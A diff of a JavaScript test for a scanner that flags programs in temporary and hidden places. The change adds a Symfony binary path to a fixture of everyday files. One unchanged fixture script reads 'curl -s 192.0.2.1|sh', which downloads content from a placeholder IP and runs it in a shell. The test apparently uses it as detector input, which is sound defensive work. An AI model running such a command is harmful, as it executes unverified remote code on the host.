@@ -45,7 +45,7 @@ describe('programs in temporary and hidden places', () => {
 	test('everyday life', () => {
 		expect(
 			ask({
-				'/tmp/notes.txt': 'x', '/tmp/go-build123/b001/exe/a': program, '/var/spool/postfix/lib/x86_64-linux-gnu/libnss_dns.so.2': { content: library }, '/home/ann/.cargo/bin/rg': program, '/home/ann/.nvm/versions/node/v20/bin/node': program,
+				'/tmp/notes.txt': 'x', '/tmp/go-build123/b001/exe/a': program, '/var/spool/postfix/lib/x86_64-linux-gnu/libnss_dns.so.2': { content: library }, '/home/ann/.cargo/bin/rg': program, '/home/ann/.symfony5/bin/symfony': program, '/home/ann/.nvm/versions/node/v20/bin/node': program,
 				'/home/ann/project/.git/hooks/pre-commit.sample': script, '/home/ann/.local/bin/x': program, '/etc/init.d/x': script, '/etc/cron.daily/apt': script, '/var/lib/dpkg/info/a.postinst': script, '/var/lib/php/sessions/sess_a': 'x', '/etc/own/notify.sh': { ...script, content: '#!/bin/sh\ncurl -fsS https://hc.example/x\n' }, '/etc/own/text.sh': '#!/bin/sh\ncurl -s 192.0.2.1|sh\n', '/var/log/syslog': 'x', '/home/ann/.vscode-server/bin/a/node': program,
 				'/var/lib/docker/overlay2/a/diff/tmp/x': program, '/home/ann/bin/tool': program, '/srv/git/p.git/hooks/update': script,
 			}),
